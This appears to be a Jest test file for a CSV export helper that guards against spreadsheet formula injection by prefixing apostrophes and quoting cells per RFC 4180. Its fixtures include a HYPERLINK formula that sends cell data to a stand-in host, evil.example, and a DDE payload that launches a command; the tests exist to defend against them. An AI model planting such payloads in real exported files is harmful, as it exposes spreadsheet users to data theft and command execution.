import { parse } from 'csv-parse/sync';
import { neutraliseCell, toCsv } from '../../../shared/notify/csv-cell.js';

describe('neutraliseCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ['+cmd|" /C calc"!A0'],
    ['-2+3'],
    ['@SUM(A1:A2)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['  =1+1'],
    ['＝1+1'],
  ])('prefixes an apostrophe to %j', (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
  });

  it.each([['plain text'], ['49.36.10.7'], ['2026-09-30T18:20:01Z'], ['a=b'], ['x+y@z'], ['']])('leaves %j alone', (value) => {
    expect(neutraliseCell(value)).toBe(value);
  });

  it('turns numbers into text and missing values into empty cells', () => {
    expect(neutraliseCell(51234)).toBe('51234');
    expect(neutraliseCell(-5)).toBe("'-5");
    expect(neutraliseCell(undefined)).toBe('');
  });
});

describe('toCsv', () => {
  const csv = toCsv(['A', 'B', 'C'], [
    ['has, comma', 'has "quotes"', 'line\nbreak'],
    ['=HYPERLINK("http://evil.example","x")', '@cmd', 'ok'],
  ]);

  it('starts with a BOM and ends records with CRLF', () => {
    expect(csv.startsWith('\uFEFFA,B,C\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('quotes commas, quotes and newlines as RFC 4180 asks', () => {
    expect(csv).toContain('"has, comma","has ""quotes""","line\nbreak"\r\n');
  });

  it('round-trips through a CSV parser with every formula neutralised', () => {
    const rows = parse(csv.slice(1), { relax_quotes: false }) as string[][];
    expect(rows).toEqual([
      ['A', 'B', 'C'],
      ['has, comma', 'has "quotes"', 'line\nbreak'],
      ['\'=HYPERLINK("http://evil.example","x")', "'@cmd", 'ok'],
    ]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
